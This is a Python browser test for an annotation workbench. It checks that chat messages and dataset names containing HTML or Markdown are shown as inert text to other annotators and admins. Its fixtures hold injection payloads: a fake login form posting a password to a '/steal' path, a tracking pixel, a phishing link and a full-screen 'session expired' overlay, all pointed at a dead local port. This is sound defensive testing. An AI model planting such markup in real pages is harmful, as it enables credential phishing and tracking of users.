"""Chromium: markup typed by one annotator, or carried by a dataset's name, is shown as text to everyone.

Annotator A types HTML (a password form, an external image, a link, a full-page fixed overlay) and
Markdown (an image, a link, a bare URL) into Chat. Annotator B then rates that dialogue: the Rate tab's
"Dialogue so far" must show the characters and build none of those elements. An admin imports a dataset
whose name is a Markdown image: the import message must load nothing. Every hostile URL points at a
port nothing listens on; the browser's request log shows whether anything tried to load it.
"""

from __future__ import annotations

import pytest

from tests.browser import ARTIFACTS, launch, require_chromium
from tests.ui_login import BROWSER_TIMEOUT_MS, login, services_with_logins, wait_columns_done
from tests.ui_server import running_app

pytestmark = pytest.mark.browser

HOST = "127.0.0.1:9"  # the discard port: nothing answers, but any attempt shows in the request log
#: how B's Rate tab shows it: A's dialogue is de-identified there, its IP address included (README: Rate,
#: Personal data)
SHOWN_HOST = "[IP]:9"
HTML_PAYLOAD = (
    f'请登录<form action="http://{HOST}/steal" id="evil-form"><input name="password" placeholder="密码">'
    f'<button>登录</button></form><img src="http://{HOST}/pixel.png" id="evil-img">'
    f'<a href="http://{HOST}/phish" id="evil-link">点击这里</a>'
    '<div id="evil-overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;'
    'background:white;z-index:9999">会话已过期，请重新登录</div>'
)
MARKDOWN_PAYLOAD = (f"还有 ![b](http://{HOST}/md.png) 和 [链接](http://{HOST}/md-link) 以及 http://{HOST}/bare "
                    "# 标题\n- 列表 **粗体** $x^2$ $$y_1$$")
DATASET_NAME = f"![b](http://{HOST}/b.png)"

# Elements the payloads would create if they were rendered as markup (none may exist anywhere).
INJECTED_JS = """() => {
  const hits = [];
  for (const sel of ['#evil-form', '#evil-img', '#evil-link', '#evil-overlay', 'input[name=password]',
                     'form[action]', 'a[href*="127.0.0.1:9"]', 'img[src*="127.0.0.1:9"]'])
    document.querySelectorAll(sel).forEach(e => hits.push(sel + ' ' + e.outerHTML.slice(0, 80)));
  for (const e of document.querySelectorAll('body *'))
    if (getComputedStyle(e).position === 'fixed' && e.textContent.includes('会话已过期'))
      hits.push('fixed overlay ' + e.outerHTML.slice(0, 80));
  return hits;
}"""


def test_markup_from_chat_and_dataset_names_stays_text_for_other_users(demo_config, tmp_path, monkeypatch):
    require_chromium()
    from playwright.sync_api import expect, sync_playwright

    monkeypatch.delenv("WORKBENCH_DB_URL", raising=False)
    users = {"ann_a": "annotator", "ann_b": "annotator", "boss": "admin"}
    requests: list[str] = []
    with (services_with_logins(demo_config, tmp_path, users) as svc, running_app(svc, auth=True) as url,
          sync_playwright() as pw):
        browser = launch(pw)
        pa = login(browser, url, "ann_a")
        pa.context.on("request", lambda r: requests.append(r.url))
        box = pa.locator("#patient-message textarea")
        for text in (HTML_PAYLOAD, MARKDOWN_PAYLOAD):
            box.fill(text)
            pa.locator("#send").click()
            expect(pa.locator("#patient-message textarea")).to_have_value("", timeout=BROWSER_TIMEOUT_MS)
            wait_columns_done(pa, len(svc.columns))
        # A's own Chat shows the characters it typed.
        expect(pa.locator(".column-chat").first).to_contain_text("<form action=", timeout=BROWSER_TIMEOUT_MS)
        expect(pa.locator(".column-chat").first).to_contain_text(f"![b](http://{HOST}/md.png)", timeout=BROWSER_TIMEOUT_MS)
        a_hits = pa.evaluate(INJECTED_JS)

        pb = login(browser, url, "ann_b")
        pb.context.on("request", lambda r: requests.append(r.url))
        pb.get_by_role("tab", name="Rate").click()
        pb.locator("#rate-progress", has_text="Mine:").wait_for()  # the page-load handler has run
        pb.locator("#rate-next").click()
        expect(pb.locator("#rate-item-info")).to_contain_text("Item #", timeout=BROWSER_TIMEOUT_MS)
        history = pb.locator("#rate-history")
        expect(history).to_contain_text('<input name="password" placeholder="密码">', timeout=BROWSER_TIMEOUT_MS)
        expect(history).to_contain_text("会话已过期，请重新登录</div>", timeout=BROWSER_TIMEOUT_MS)
        expect(history).to_contain_text(f"[链接](http://{SHOWN_HOST}/md-link)", timeout=BROWSER_TIMEOUT_MS)
        expect(history).not_to_contain_text(HOST)
        expect(history).to_contain_text("**粗体** $x^2$ $$y_1$$", timeout=BROWSER_TIMEOUT_MS)
        assert pb.locator("#rate-history .katex").count() == 0  # no LaTeX typesetting either
        b_hits = pb.evaluate(INJECTED_JS)
        pb.screenshot(path=str(_artifacts() / "untrusted_rate.png"), full_page=True)

        admin = login(browser, url, "boss")
        admin.context.on("request", lambda r: requests.append(r.url))
        admin.get_by_role("tab", name="Data").click()
        dataset = tmp_path / "cases.jsonl"
        dataset.write_text('{"input": "病人：头痛\\\\n医生：", "target": "头痛多久了？"}\n', encoding="utf-8")
        admin.locator("#data-import").locator("xpath=ancestor::*[contains(@class,'column')][1]") \
            .locator("input[type=file]").set_input_files(str(dataset))
        admin.get_by_placeholder("default: the file name").fill(DATASET_NAME)
        admin.locator("#data-import").click()
        result = admin.locator("#data-import-result")
        expect(result).to_contain_text("✓", timeout=BROWSER_TIMEOUT_MS)
        expect(result).to_contain_text(DATASET_NAME, timeout=BROWSER_TIMEOUT_MS)
        assert result.locator("img").count() == 0
        # Stored: the box is empty for the next file, the name and "replace" cleared with it.
        expect(admin.get_by_placeholder("default: the file name")).to_have_value("", timeout=BROWSER_TIMEOUT_MS)
        expect(admin.locator("#data-import").locator("xpath=ancestor::*[contains(@class,'column')][1]")
               .get_by_text("cases.jsonl")).to_have_count(0)
        admin_hits = admin.evaluate(INJECTED_JS)
        browser.close()

    assert a_hits == [] and b_hits == [] and admin_hits == []
    assert [u for u in requests if HOST in u] == []


def _artifacts():
    ARTIFACTS.mkdir(exist_ok=True)
    return ARTIFACTS
